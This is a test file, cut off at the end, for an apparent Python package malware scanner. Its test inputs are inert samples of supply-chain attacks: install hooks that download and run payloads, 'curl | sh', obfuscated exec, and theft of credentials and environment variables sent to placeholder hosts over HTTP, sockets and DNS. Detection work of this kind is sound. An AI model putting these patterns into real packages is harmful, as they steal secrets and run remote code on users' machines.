"""Static analysis of Python sources in package files.

Every malicious sample below is inert text: it is only parsed, never executed, and every
URL points under example.invalid (or a documentation-only IP range, RFC 5737).
"""

from __future__ import annotations

import base64
import random
import textwrap
import zlib

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chaingate.analysis.interface import CodeFinding
from chaingate.analysis.python.detect import analyse_file
from chaingate.core.findings import Severity


def run(path: str, source: str) -> list[CodeFinding]:
    return analyse_file(path, textwrap.dedent(source).lstrip("\n").encode())


def at(findings: list[CodeFinding], id_: str, line: int) -> CodeFinding:
    matches = [f for f in findings if f.id == id_ and f.line == line]
    assert matches, f"no {id_} at line {line}: {findings}"
    return matches[0]


def loud(findings: list[CodeFinding]) -> list[CodeFinding]:
    return [f for f in findings if f.severity >= Severity.MEDIUM]


# --------------------------------------------------------------------------- incidents


def test_ctx_style_environment_sent_at_import() -> None:
    findings = run(
        "ctx-0.2.6/ctx.py",
        """
        import os
        import requests


        class Ctx(dict):
            pass


        data = dict(os.environ)
        requests.get("https://example.invalid/hacked/" + str(data))
        """,
    )
    exfil = at(findings, "exfiltration", 10)
    assert exfil.severity == Severity.CRITICAL
    assert "requests.get" in exfil.excerpt
    assert "import" in exfil.message
    assert at(findings, "import-time-exec", 10).severity == Severity.HIGH


def test_setup_py_install_override_downloads_and_runs() -> None:
    findings = run(
        "exotel-0.1.6/setup.py",
        """
        import os
        import subprocess
        import tempfile
        import urllib.request

        from setuptools import setup
        from setuptools.command.install import install


        class PostInstall(install):
            def run(self):
                install.run(self)
                path = os.path.join(tempfile.gettempdir(), "helper")
                data = urllib.request.urlopen("https://example.invalid/payload").read()
                with open(path, "wb") as fh:
                    fh.write(data)
                os.chmod(path, 0o755)
                subprocess.Popen([path])


        setup(name="exotel", version="0.1.6", cmdclass={"install": PostInstall})
        """,
    )
    assert at(findings, "install-hook", 14).severity == Severity.HIGH
    assert at(findings, "install-hook", 18).severity == Severity.HIGH
    assert "PostInstall" in at(findings, "install-hook", 14).message
    assert at(findings, "download-exec", 18).severity == Severity.CRITICAL
    assert at(findings, "download-exec", 18).excerpt == "subprocess.Popen([path])"


def test_setup_py_module_level_network_and_curl_pipe() -> None:
    findings = run(
        "pkg-1.0/setup.py",
        """
        import os
        import requests
        from setuptools import setup

        requests.get("https://example.invalid/beacon")
        os.system("curl -s https://example.invalid/x.sh | sh")
        setup(name="pkg")
        """,
    )
    assert at(findings, "install-hook", 5).severity == Severity.HIGH
    assert at(findings, "install-hook", 6).severity == Severity.HIGH


def test_setup_py_network_through_a_local_function() -> None:
    findings = run(
        "pkg-1.0/setup.py",
        """
        from urllib.request import urlopen
        from setuptools import setup

        def fetch():
            return urlopen("https://example.invalid/stage2").read()

        exec(fetch())
        setup(name="pkg")
        """,
    )
    assert at(findings, "install-hook", 5).severity == Severity.HIGH
    assert at(findings, "download-exec", 7).severity == Severity.CRITICAL


def test_cmdclass_override_doing_other_work_is_medium() -> None:
    findings = run(
        "pkg-1.0/setup.py",
        """
        import os
        from setuptools import setup
        from setuptools.command.develop import develop as _develop

        class develop(_develop):
            def run(self):
                _develop.run(self)
                with open(os.path.expanduser("~/.bashrc"), "a") as fh:
                    fh.write("alias ls=ls\\n")

        setup(name="pkg", cmdclass={"develop": develop})
        """,
    )
    assert at(findings, "install-hook", 8).severity == Severity.MEDIUM
    assert max(f.severity for f in findings) == Severity.MEDIUM


def test_pth_with_import_line() -> None:
    findings = analyse_file(
        "evil-1.0.dist-info/../evil.pth",
        b"# a comment\n"
        b"/usr/lib/python3/dist-packages\n"
        b"import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
        b"import sys; import urllib.request\n"
        b"import _virtualenv\n",
    )
    assert [f.line for f in findings] == [3, 4, 5]
    assert at(findings, "pth-exec", 3).severity == Severity.CRITICAL
    assert at(findings, "pth-exec", 4).severity == Severity.HIGH
    assert at(findings, "pth-exec", 5).severity == Severity.LOW
    assert at(findings, "pth-exec", 3).excerpt.startswith("import os, base64")


def test_pth_from_setuptools_is_quiet() -> None:
    line = (
        b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') "
        b"== 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    assert loud(analyse_file("distutils-precedence.pth", line)) == []


def test_base64_exec_through_aliases() -> None:
    findings = run(
        "pkg/__init__.py",
        """
        import base64 as b
        from zlib import decompress as d

        e = exec
        blob = "eJwrKMrMK1EwVDBSMFIwUrBSMFYAAEa0Bpw="
        payload = d(b.b64decode(blob))
        e(payload)
        """,
    )
    hit = at(findings, "obfuscated-exec", 7)
    assert hit.severity == Severity.CRITICAL
    assert hit.excerpt == "e(payload)"


def test_chr_join_into_eval_inside_function() -> None:
    findings = run(
        "pkg/util.py",
        """
        def helper():
            code = "".join(chr(c) for c in [112, 114, 105, 110, 116])
            return eval(code)
        """,
    )
    assert at(findings, "obfuscated-exec", 3).severity == Severity.CRITICAL


def test_getattr_builtins_with_computed_name() -> None:
    findings = run(
        "pkg/core.py",
        """
        import builtins

        getattr(__builtins__, 'ex' + 'ec')("x = 1")
        runner = getattr(builtins, "".join(["ev", "al"]))
        """,
    )
    assert at(findings, "obfuscated-exec", 3).severity == Severity.CRITICAL
    assert at(findings, "obfuscated-exec", 4).severity == Severity.CRITICAL


def test_long_encoded_blob() -> None:
    rng = random.Random(7)
    blob = base64.b64encode(rng.randbytes(3000)).decode()
    alone = run("pkg/data.py", f'import base64\nDATA = base64.b64decode("{blob}")\n')
    assert at(alone, "obfuscated-exec", 2).severity == Severity.MEDIUM
    packed = base64.b64encode(zlib.compress(b"x" * 10)).decode()
    with_exec = run(
        "pkg/data.py",
        f'import base64, zlib\nB = "{blob}"\nraw = base64.b64decode(B)\n'
        f'exec(zlib.decompress(base64.b64decode("{packed}")))\n',
    )
    assert at(with_exec, "obfuscated-exec", 3).severity == Severity.HIGH
    assert at(with_exec, "obfuscated-exec", 4).severity == Severity.CRITICAL
    # an excerpt never carries the whole blob
    assert all(len(f.excerpt) <= 160 for f in with_exec)


def test_discord_webhook_exfiltration() -> None:
    findings = run(
        "pkg/telemetry.py",
        """
        import json
        import os
        import urllib.request

        HOOK = "https://example.invalid/api/webhooks/123456789012/abcDEF-token"


        def report():
            token = open(os.path.expanduser("~/.npmrc")).read()
            body = json.dumps({"content": token}).encode()
            req = urllib.request.Request(HOOK, data=body)
            urllib.request.urlopen(req)
        """,
    )
    assert at(findings, "exfiltration", 12).severity == Severity.HIGH
    assert at(findings, "shady-url", 5).severity == Severity.HIGH


def test_shady_urls_alone_are_medium() -> None:
    findings = run(
        "pkg/config.py",
        """
        PASTE = "https://pastebin.com/raw/xxxxxxxx"
        C2 = "http://198.51.100.7:8080/task"
        TUNNEL = "https://abc123.ngrok-free.app"
        LOCAL = "http://127.0.0.1:8000/"
        LAN = "http://192.168.1.10/"
        """,
    )
    assert [(f.line, f.severity) for f in findings] == [
        (1, Severity.MEDIUM),
        (2, Severity.MEDIUM),
        (3, Severity.MEDIUM),
    ]


def test_download_exec_direct() -> None:
    findings = run(
        "pkg/loader.py",
        """
        import requests

        def load():
            r = requests.get("https://example.invalid/stage2.py")
            exec(r.text)
        """,
    )
    assert at(findings, "download-exec", 5).severity == Severity.CRITICAL


def test_credential_file_posted() -> None:
    findings = run(
        "pkg/sync.py",
        """
        import pathlib
        import requests

        def sync():
            creds = pathlib.Path.home().joinpath(".aws/credentials").read_text()
            requests.post("https://example.invalid/c", data=creds)
        """,
    )
    assert at(findings, "exfiltration", 6).severity == Severity.HIGH


def test_hidden_bidi_and_zero_width() -> None:
    source = (
        "\ufeffaccess_level = 'user'\n"
        "if access_level != 'user\u202e \u2066# admin\u2069 \u2066':\n"
        "    pass\n"
        "name = 'a\u200bb'\n"
    )
    findings = analyse_file("pkg/auth.py", source.encode())
    assert [f.line for f in findings] == [2, 4]
    bidi = at(findings, "hidden-unicode", 2)
    assert bidi.severity == Severity.HIGH
    assert "U+202E" in bidi.message and "<U+202E>" in bidi.excerpt
    assert at(findings, "hidden-unicode", 4).severity == Severity.LOW


def test_unparsable_python_is_low_and_does_not_crash() -> None:
    findings = analyse_file("pkg-0.1/setup.py", b"print 'python 2'\n")
    assert [(f.id, f.severity) for f in findings] == [("unparsable-source", Severity.LOW)]
    assert analyse_file("pkg/x.py", b"a = 1\x00\n")[0].id == "unparsable-source"


def test_tests_and_docs_downgrade_import_time_findings() -> None:
    source = "import subprocess\nsubprocess.check_call(['make'])\n"
    assert at(run("pkg/build.py", source), "import-time-exec", 2).severity == Severity.MEDIUM
    assert at(run("pkg/tests/conftest.py", source), "import-time-exec", 2).severity == (
        Severity.LOW
    )
    assert loud(run("pkg-1.0/docs/conf.py", source)) == []


def test_main_guard_is_not_import_time() -> None:
    findings = run(
        "pkg/__main__.py",
        """
        import subprocess
        if __name__ == "__main__":
            subprocess.run(["ls"])
        """,
    )
    assert findings == []


def test_other_files_are_ignored() -> None:
    assert analyse_file("pkg/README.md", b"exec(base64.b64decode('x'))") == []


# --------------------------------------------------------------------------- healthy code

REQUESTS_SESSIONS = """
import os
import sys
import time
from collections import OrderedDict

from .adapters import HTTPAdapter
from .utils import get_environ_proxies, should_bypass_proxies
import requests


class Session:
    def __init__(self):
        self.headers = {}
        self.adapters = OrderedDict()
        self.mount("https://", HTTPAdapter())

    def mount(self, prefix, adapter):
        self.adapters[prefix] = adapter

    def merge_environment_settings(self, url, proxies, stream, verify, cert):
        if self.trust_env:
            no_proxy = proxies.get("no_proxy") if proxies is not None else None
            env_proxies = get_environ_proxies(url, no_proxy=no_proxy)
            for k, v in env_proxies.items():
                proxies.setdefault(k, v)
            if verify is True or verify is None:
                verify = os.environ.get("REQUESTS_CA_BUNDLE") or os.environ.get(
                    "CURL_CA_BUNDLE"
                )
        return {"proxies": proxies, "verify": verify}

    def send(self, request, **kwargs):
        start = time.perf_counter()
        r = self.get_adapter(url=request.url).send(request, **kwargs)
        r.elapsed = time.perf_counter() - start
        return r

    def upload(self, url, payload):
        env = os.environ.copy()
        return requests.post(url, json=payload, timeout=env.get("TIMEOUT", 10))
"""

SETUP_WITH_COMPILER = """
import os
import subprocess
import sys

from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


def git_version():
    try:
        out = subprocess.check_output(["git", "describe", "--tags"], cwd=os.path.dirname(__file__))
    except Exception:
        return "0.0.0"
    return out.decode().strip()


class CMakeBuild(build_ext):
    def build_extension(self, ext):
        env = os.environ.copy()
        os.makedirs(self.build_temp, exist_ok=True)
        subprocess.check_call(["cmake", ext.sourcedir], cwd=self.build_temp, env=env)
        subprocess.check_call(["cmake", "--build", "."], cwd=self.build_temp)
        self.spawn(["cc", "-O2", "-c", "src/fast.c", "-o", "fast.o"])


setup(
    name="fastthing",
    version=git_version(),
    ext_modules=[Extension("fastthing._fast", ["src/fast.c"])],
    cmdclass={"build_ext": CMakeBuild},
)
"""

URLLIB3_INIT = '''
"""
Python HTTP library with thread-safe connection pooling, file post support, user friendly.
"""
from __future__ import annotations

import logging
import sys
import typing
import warnings
from logging import NullHandler

from . import exceptions
from ._base_connection import _TYPE_BODY
from ._collections import HTTPHeaderDict
from ._version import __version__
from .connectionpool import HTTPConnectionPool, HTTPSConnectionPool, connection_from_url
from .poolmanager import PoolManager, ProxyManager, proxy_from_url

try:
    import ssl
except ImportError:
    pass
else:
    if not ssl.OPENSSL_VERSION.startswith("OpenSSL "):
        warnings.warn("urllib3 v2 only supports OpenSSL 1.1.1+", exceptions.NotOpenSSLWarning)

__author__ = "Andrey Petrov (andrey.petrov@shazow.net)"
__license__ = "MIT"
__version__ = __version__

logging.getLogger(__name__).addHandler(NullHandler())


def add_stderr_logger(level: int = logging.DEBUG) -> logging.StreamHandler[typing.TextIO]:
    logger = logging.getLogger(__name__)
    handler = logging.StreamHandler()
    logger.addHandler(handler)
    return handler


warnings.simplefilter("always", exceptions.SecurityWarning, append=True)
_DEFAULT_POOL = PoolManager()


def request(method, url, *, body=None, fields=None, headers=None):
    return _DEFAULT_POOL.request(method, url, body=body, fields=fields, headers=headers)
'''

PYYAML_SETUP = """
NAME = 'PyYAML'
VERSION = '6.0.1'

import sys, os, os.path, pathlib, platform, shutil, tempfile, warnings

from setuptools import setup, Command, Distribution as _Distribution, Extension as _Extension
from setuptools.command.build_ext import build_ext as _build_ext
from distutils import log
from distutils.errors import DistutilsError, CompileError, LinkError, DistutilsPlatformError

with_cython = False
if 'sdist' in sys.argv or os.environ.get('PYYAML_FORCE_CYTHON') == '1':
    with_cython = True
try:
    from Cython.Distutils.extension import Extension as _Extension
    from Cython.Distutils import build_ext as _build_ext
    with_cython = True
except ImportError:
    if with_cython:
        raise


class build_ext(_build_ext):
    def run(self):
        optional = True
        disabled = True
        for ext in self.extensions:
            with_ext = self.distribution.ext_status(ext)
            if with_ext is None:
                disabled = False
            elif with_ext:
                optional = False
                disabled = False
                break
        if disabled:
            return
        try:
            _build_ext.run(self)
        except DistutilsPlatformError:
            exc = sys.exc_info()[1]
            if optional:
                log.warn(str(exc))
                log.warn("Skipping building extension.")
                return
            raise

    def check_extensions_list(self, extensions):
        filenames = []
        for ext in self.extensions:
            filenames.extend(ext.sources)
        return filenames

    def build_extensions(self):
        self.check_extensions_list(self.extensions)
        for ext in self.extensions:
            with_ext = self.distribution.ext_status(ext)
            if with_ext is not None and not with_ext:
                continue
            if with_cython:
                ext.sources = self.cython_sources(ext.sources, ext)
            try:
                self.build_extension(ext)
            except (CompileError, LinkError):
                if with_ext is not None:
                    raise
                log.warn("Error compiling module, falling back to pure Python")


class test(Command):
    user_options = []

    def run(self):
        build_cmd = self.get_finalized_command('build')
        build_cmd.run()
        sys.path.insert(0, build_cmd.build_lib)
        sys.path.insert(0, 'tests/lib')
        import test_all
        if not test_all.main([]):
            raise DistutilsError("Tests failed")


cmdclass = {
    'build_ext': build_ext,
    'test': test,
}

if __name__ == '__main__':
    setup(
        name=NAME,
        version=VERSION,
        package_dir={'': 'lib'},
        packages=['yaml', '_yaml'],
        cmdclass=cmdclass,
        python_requires='>=3.6',
    )
"""

TESTS_WITH_SUBPROCESS = """
import os
import subprocess
import sys

import pytest

GIT = subprocess.run(["git", "--version"], capture_output=True).returncode == 0


@pytest.mark.skipif(not GIT, reason="needs git")
def test_cli_runs():
    env = os.environ.copy()
    env["PYTHONPATH"] = "src"
    proc = subprocess.run([sys.executable, "-m", "pkg", "--help"], env=env, capture_output=True)
    assert proc.returncode == 0


def test_system():
    assert os.system("true") == 0
"""

SIX_LIKE = """
import builtins
import sys

exec_ = getattr(builtins, "exec")
exec_(\"\"\"def reraise(tp, value, tb=None):
    raise value
\"\"\")
print_ = getattr(builtins, "print")


def b(s):
    return s.encode("latin-1")


def unhex(s):
    return bytes.fromhex(s)
"""


def test_healthy_code_stays_quiet() -> None:
    samples = {
        "requests-2.32.3/src/requests/sessions.py": REQUESTS_SESSIONS,
        "fastthing-1.0/setup.py": SETUP_WITH_COMPILER,
        "urllib3/__init__.py": URLLIB3_INIT,
        "PyYAML-6.0.1/setup.py": PYYAML_SETUP,
        "pkg-1.0/tests/test_cli.py": TESTS_WITH_SUBPROCESS,
        "six.py": SIX_LIKE,
    }
    for path, source in samples.items():
        assert loud(run(path, source)) == [], path
    # git probes in setup.py are reported, but only as low
    setup_findings = run("fastthing-1.0/setup.py", SETUP_WITH_COMPILER)
    assert [(f.id, f.severity, f.line) for f in setup_findings] == [
        ("install-hook", Severity.LOW, 11)
    ]


# --------------------------------------------------------------------------- fuzzing

_NAMES = st.sampled_from(["setup.py", "pkg/__init__.py", "x.pth", "a/b.py", "data.bin"])
_FRAGMENTS = st.sampled_from(
    [
        "import base64 as b\n",
        "exec(b.b64decode(x))\n",
        "getattr(__builtins__, 'ex'+'ec')\n",
        "e = exec\n",
        "e(e)\n",
        "requests.post(u, data=dict(os.environ))\n",
        "import os, requests\n",
        "class I(install):\n    def run(self):\n        os.system('x')\n",
        "def f():\n    return urlopen(u).read()\n",
        "f()\n",
        "'a' + 'b' * 3\n",
        "x[::0]\n",
        "'abc'[1:2:0]\n",
        "''.join(map(chr, [1]))\n",
        "\u202e\n",
        "((((\n",
        "\ufeff",
        "chr(-1)\n",
        "chr(99999999)\n",
        "import\n",
        "import os;\n",
    ]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_NAMES, st.binary(max_size=2000))
def test_fuzz_bytes(name: str, data: bytes) -> None:
    assert isinstance(analyse_file(name, data), list)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_NAMES, st.text(max_size=2000))
def test_fuzz_text(name: str, text: str) -> None:
    for f in analyse_file(name, text.encode("utf-8", "surrogatepass")):
        assert isinstance(f, CodeFinding) and len(f.excerpt) <= 160


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_NAMES, st.lists(_FRAGMENTS, max_size=12))
def test_fuzz_python_fragments(name: str, parts: list[str]) -> None:
    assert isinstance(analyse_file(name, "".join(parts).encode()), list)


def test_deep_nesting_does_not_crash() -> None:
    deep = "x = " + " + ".join(["'a'"] * 5000) + "\n"
    assert isinstance(analyse_file("pkg/deep.py", deep.encode()), list)
    parens = "x = " + "(" * 400 + "1" + ")" * 400 + "\n"
    assert isinstance(analyse_file("pkg/deep.py", parens.encode()), list)


def test_socket_send_of_environment() -> None:
    findings = run(
        "pkg/net.py",
        """
        import json, os, socket

        def beacon():
            s = socket.create_connection(("example.invalid", 443))
            s.sendall(json.dumps(dict(os.environ)).encode())
        """,
    )
    assert at(findings, "exfiltration", 5).severity == Severity.HIGH


def test_seen_in_real_libraries_stays_quiet() -> None:
    # urllib3: probing IPv6 support with a socket at import; rich: a guarded demo;
    # disposable-email-domains: a domain list that includes webhook.site
    source = """
    import socket, sys, pty

    def _has_ipv6(host):
        sock = socket.socket(socket.AF_INET6)
        sock.bind((host, 0))
        return True

    HAS_IPV6 = _has_ipv6("::1")
    blocklist = {"webhook.site", "mailinator.com"}

    if sys.platform != "win32" and __name__ == "__main__":
        pty.spawn(sys.argv[1:])
    """
    assert loud(run("pkg/util/connection.py", source)) == []


# --------------------------------------------------------------------------- precision
# Shapes of healthy code the detectors once called high, and the rules that keep them low.


def test_http_session_send_is_not_a_socket_send() -> None:
    # botocore/utils.py: a module importing socket, an HTTP session's .send, and a cache
    # directory under ~/.aws, with no data flowing from one to the other
    findings = run(
        "botocore/utils.py",
        """
        import os
        import socket

        class InstanceMetadataFetcher:
            def __init__(self, session):
                self._session = session
                self._cache = os.path.join('~', '.aws', 'boto', 'cache')

            def _get_request(self, request):
                response = self._session.send(request.prepare())
                return response
        """,
    )
    assert loud(findings) == []


def test_credential_path_must_flow_into_what_is_sent() -> None:
    findings = run(
        "pkg/keys.py",
        """
        import os
        import requests

        KNOWN_HOSTS = os.path.expanduser("~/.ssh/known_hosts")

        def report(version):
            requests.post("https://example.invalid/ping", data={"version": version})
        """,
    )
    assert [f for f in findings if f.id == "exfiltration"] == []


def test_socket_send_needs_a_socket() -> None:
    findings = run(
        "pkg/net.py",
        """
        import os, socket

        def leak(channel):
            channel.send(str(dict(os.environ)))

        def beacon():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("198.51.100.7", 4444))
            s.sendall(open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")).read())
        """,
    )
    assert [f.line for f in findings if f.id == "exfiltration"] == [9]


def test_import_time_url_from_a_parameter_is_medium() -> None:
    # matplotlib/__init__.py: the rc file is opened with urlopen only when it is a URL,
    # and the path comes from a function looking for the rc file
    findings = run(
        "matplotlib/__init__.py",
        """
        import contextlib
        import os

        def matplotlib_fname():
            return os.environ.get("MATPLOTLIBRC", "matplotlibrc")

        @contextlib.contextmanager
        def _open_file_or_url(fname):
            if fname.startswith(("http://", "https://")):
                import urllib.request
                with urllib.request.urlopen(fname) as f:
                    yield f
            else:
                fname = os.path.expanduser(fname)
                with open(fname) as f:
                    yield f

        def rc_params_from_file(fname):
            with _open_file_or_url(fname) as fd:
                return fd.read()

        rcParams = rc_params_from_file(matplotlib_fname())
        """,
    )
    assert at(findings, "import-time-exec", 11).severity == Severity.MEDIUM


def test_import_time_url_passed_as_a_constant_is_high() -> None:
    findings = run(
        "pkg/__init__.py",
        """
        import urllib.request

        def _fetch(url):
            return urllib.request.urlopen(url).read()

        _fetch("https://collector.example.invalid/beacon")
        """,
    )
    assert at(findings, "import-time-exec", 4).severity == Severity.HIGH


def test_import_time_loopback_is_low() -> None:
    # fastapi's screenshot scripts and urllib3's dummyserver talk to this machine
    findings = run(
        "pkg/probe.py",
        """
        import socket
        import httpx

        def _resolves_to_ipv6(host):
            return any(r[0] == socket.AF_INET6 for r in socket.getaddrinfo(host, None))

        HAS_IPV6 = _resolves_to_ipv6("localhost")
        DOCS = httpx.get("http://localhost:8000/docs")
        API = httpx.get(f"http://127.0.0.1:{8000}/api")
        """,
    )
    assert [f.severity for f in findings if f.id == "import-time-exec"] == [Severity.LOW] * 3


def test_import_time_url_hidden_in_base64_is_still_high() -> None:
    findings = run(
        "pkg/__init__.py",
        """
        import base64
        import requests

        CONFIG = {"url": base64.b64decode("aHR0cHM6Ly9jMi5leGFtcGxlLmludmFsaWQv").decode()}
        requests.get(CONFIG["url"])
        """,
    )
    assert at(findings, "import-time-exec", 5).severity == Severity.HIGH


def test_pth_exec_of_a_harmless_literal_is_low() -> None:
    # coverage's a1_coverage.pth
    line = (
        'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START"):\\n try:\\n'
        "  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup()')\n"
    )
    findings = analyse_file("a1_coverage.pth", line.encode())
    assert [(f.line, f.severity) for f in findings] == [(1, Severity.LOW)]


def test_pth_literal_code_is_judged_by_what_it_does() -> None:
    findings = analyse_file(
        "litellm_init.pth",
        b"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
        b"\"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"])\n"
        b"import sys; exec('import subprocess\\nsubprocess.run([\"id\"])')\n"
        b"import sys; exec(sys.argv[0])\n"
        b"import os; __import__('os').system('id')\n",
    )
    assert [(f.line, f.severity) for f in findings] == [
        (1, Severity.CRITICAL),
        (2, Severity.HIGH),
        (3, Severity.HIGH),
        (4, Severity.HIGH),
    ]


def test_zero_width_joiners_in_strings_and_comments_are_text() -> None:
    # wcwidth's emoji tables, sqlalchemy's tests, a comment copied from CUDA's docs
    source = (
        "FAMILY = '\U0001f468\u200d\U0001f469\u200d\U0001f467'\n"
        "NON_JOINER = 'a\u200cb'\n"
        "# \u200bcudaError_t cudaSetDevice ( int device )\n"
        "STRIP = ' \\t\ufeff'\n"
    )
    assert analyse_file("wcwidth/table_zero.py", source.encode()) == []


def test_hidden_unicode_messages_name_what_was_found() -> None:
    source = "x = 1  # \u202e reversed\ny = 'a\u200bb'\nz\u200b = 2\n"
    findings = analyse_file("pkg/mod.py", source.encode())
    bidi = at(findings, "hidden-unicode", 1)
    assert bidi.severity == Severity.HIGH and "bidirectional" in bidi.message
    for line in (2, 3):
        zero = at(findings, "hidden-unicode", line)
        assert zero.severity == Severity.LOW
        assert "zero-width" in zero.message and "bidirectional" not in zero.message


# --------------------------------------------------------------------------- new shapes


def test_decoder_hidden_in_a_lambda_or_function() -> None:
    packed = base64.b64encode(zlib.compress(b"print(1)")).decode()[::-1]
    findings = run(
        "aiocpa/utils/sync.py",
        f"""
        _ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
        exec((_)(b'{packed}'))

        def unpack(blob):
            data = _(blob)
            return data

        exec(unpack(b'{packed}'))
        """,
    )
    assert at(findings, "obfuscated-exec", 2).severity == Severity.CRITICAL
    assert at(findings, "obfuscated-exec", 8).severity == Severity.CRITICAL


def test_exec_of_any_call_on_a_long_blob_is_critical() -> None:
    rng = random.Random(3)
    blob = base64.b64encode(rng.randbytes(3000)).decode()
    findings = run("pkg/x.py", f"from .codec import unveil\nexec(unveil('{blob}'))\n")
    assert at(findings, "obfuscated-exec", 2).severity == Severity.CRITICAL


def test_bytes_decoded_with_an_unusual_codec() -> None:
    findings = run(
        "discord_rpc_tools/__init__.py",
        r"""
        import builtins
        cc = getattr(builtins, b'\x85\xa7\x85\x83'.decode('cp1026'))
        exec(b'\x97\x99\x89\x95\xa3M]'.decode('cp1026'))
        label = b'caf\xc3\xa9'.decode('utf-8')
        """,
    )
    assert at(findings, "obfuscated-exec", 2).severity == Severity.CRITICAL
    assert at(findings, "obfuscated-exec", 3).severity == Severity.CRITICAL
    assert [f.line for f in findings] == [2, 3]


def test_builtin_called_through_a_computed_name() -> None:
    findings = run(
        "pkg/core.py",
        """
        import builtins

        def run(code, key):
            getattr(builtins, key.encode()[::-1].decode())(code)

        def convert(type_name, value):
            # typing_extensions, pandas: lookup by a plain name is ordinary
            return getattr(builtins, type_name)(value)

        def error_class(errclass):
            # ptyprocess: with a default, a lookup that may fail
            return getattr(builtins, errclass.decode("ascii"), Exception)
        """,
    )
    assert at(findings, "obfuscated-exec", 4).severity == Severity.HIGH
    assert [f.line for f in loud(findings)] == [4]


def test_credential_variables_kept_on_self_and_sent_later() -> None:
    findings = run(
        "ctx.py",
        """
        from os import environ
        import requests

        class Ctx(dict):
            def __init__(self):
                self.access = environ.get("AWS_ACCESS_KEY_ID")
                self.secret = environ.get("AWS_SECRET_ACCESS_KEY")
                self.region = environ.get("AWS_DEFAULT_REGION")

            def send(self):
                requests.get("https://example.invalid/h/" + self.access + "/" + self.secret)

            def ping(self):
                requests.get("https://example.invalid/region/" + self.region)
        """,
    )
    assert at(findings, "exfiltration", 11).severity == Severity.HIGH
    assert [f.line for f in findings if f.id == "exfiltration"] == [11]


def test_credentials_used_to_authenticate_or_sign_are_not_exfiltration() -> None:
    findings = run(
        "client/auth.py",
        """
        import hashlib
        import hmac
        import os
        import requests

        class Client:
            def __init__(self):
                self.token = os.environ["SERVICE_API_TOKEN"]
                self.secret = os.getenv("AWS_SECRET_ACCESS_KEY")

            def call(self, url, body):
                signature = hmac.new(self.secret.encode(), body, hashlib.sha256).hexdigest()
                return requests.post(
                    url + "?sig=" + signature,
                    data=body,
                    headers={"Authorization": "Bearer " + self.token},
                )
        """,
    )
    assert [f for f in findings if f.id == "exfiltration"] == []


def test_dns_labels_carrying_host_identity() -> None:
    findings = run(
        "acme-1.0/setup.py",
        """
        import getpass, os, socket
        from setuptools import setup

        ZONE = "d.example.invalid"

        def _beacon():
            data = "|".join([getpass.getuser(), socket.gethostname(), os.getcwd()])
            for i, chunk in enumerate([data.encode().hex()]):
                socket.gethostbyname(f"{chunk}.{i}.{ZONE}")

        _beacon()
        local_ip = socket.gethostbyname(socket.gethostname())
        setup(name="acme")
        """,
    )
    assert at(findings, "exfiltration", 9).severity == Severity.CRITICAL
    assert at(findings, "install-hook", 9).severity == Severity.HIGH
    assert [f.line for f in findings if f.id == "exfiltration"] == [9]


def test_exec_of_decrypted_code_and_pip_in_setup() -> None:
    findings = run(
        "requestslib-2.31.0/setup.py",
        """
        import os
        from setuptools import setup
        os.system('pip install cryptography')
        from cryptography.fernet import Fernet
        exec(Fernet(b'a2V5').decrypt(b'gAAAAABtoken'))
        setup(name="requestslib")
        """,
    )
    # pip install from setup.py: high since issue 15 (a second stage out of the resolver's
    # sight; the 2023 clipboard hijackers pulled theirs in so)
    assert at(findings, "install-hook", 3).severity == Severity.HIGH
    assert at(findings, "obfuscated-exec", 5).severity == Severity.CRITICAL


def test_compiled_bytecode_files() -> None:
    pyc = analyse_file("fshec2/full.pyc", b"\xa7\r\r\n\x00\x00\x00\x00")
    assert [(f.id, f.severity) for f in pyc] == [("compiled-bytecode", Severity.MEDIUM)]
    assert analyse_file("pkg/__pycache__/mod.cpython-311.pyc", b"\xa7\r\r\n") == []


def test_bytecode_loaded_from_a_named_pyc_or_at_import() -> None:
    findings = run(
        "fshec2/main.py",
        """
        import marshal
        import os
        from importlib.machinery import SourcelessFileLoader

        def get_path():
            here = os.path.dirname(os.path.abspath(__file__))
            return SourcelessFileLoader("full", os.path.join(here, "full.pyc")).load_module()

        def _read_pyc(fn):
            # pytest's assertion rewriting, jinja2's bytecode cache: their own caches
            with open(fn, "rb") as fp:
                return marshal.load(fp)

        with open(os.path.join(os.path.dirname(__file__), "blob.bin"), "rb") as f:
            code = marshal.loads(f.read())
        """,
    )
    assert at(findings, "compiled-bytecode", 7).severity == Severity.HIGH
    assert at(findings, "compiled-bytecode", 15).severity == Severity.HIGH
    assert [f.line for f in findings] == [7, 15]


def test_thread_targets_run_at_import() -> None:
    findings = run(
        "pkg/__init__.py",
        """
        import atexit
        import threading
        import urllib.request

        def _run():
            urllib.request.urlopen("https://collector.example.invalid/x")

        def _bye():
            urllib.request.urlopen("https://collector.example.invalid/bye")

        threading.Thread(target=_run, daemon=True).start()
        atexit.register(_bye)
        """,
    )
    assert at(findings, "import-time-exec", 6).severity == Severity.HIGH
    assert at(findings, "import-time-exec", 9).severity == Severity.HIGH


def test_download_unpack_chmod_and_run() -> None:
    findings = run(
        "lightning/_runtime/__init__.py",
        """
        import os, stat, subprocess, urllib.request, zipfile

        def _provision(cache):
            binary = os.path.join(cache, "bun")
            archive = os.path.join(cache, "bun.zip")
            urllib.request.urlretrieve("https://example.invalid/bun.zip", archive)
            with zipfile.ZipFile(archive) as zf:
                zf.extractall(cache)
            os.chmod(binary, os.stat(binary).st_mode | stat.S_IEXEC)
            subprocess.Popen([binary, "run", "x.js"])
        """,
    )
    assert at(findings, "download-exec", 10).severity == Severity.CRITICAL


def test_download_and_run_split_across_functions() -> None:
    source = """
    import os, subprocess
    from pathlib import Path
    import requests

    def safe_download(url, file):
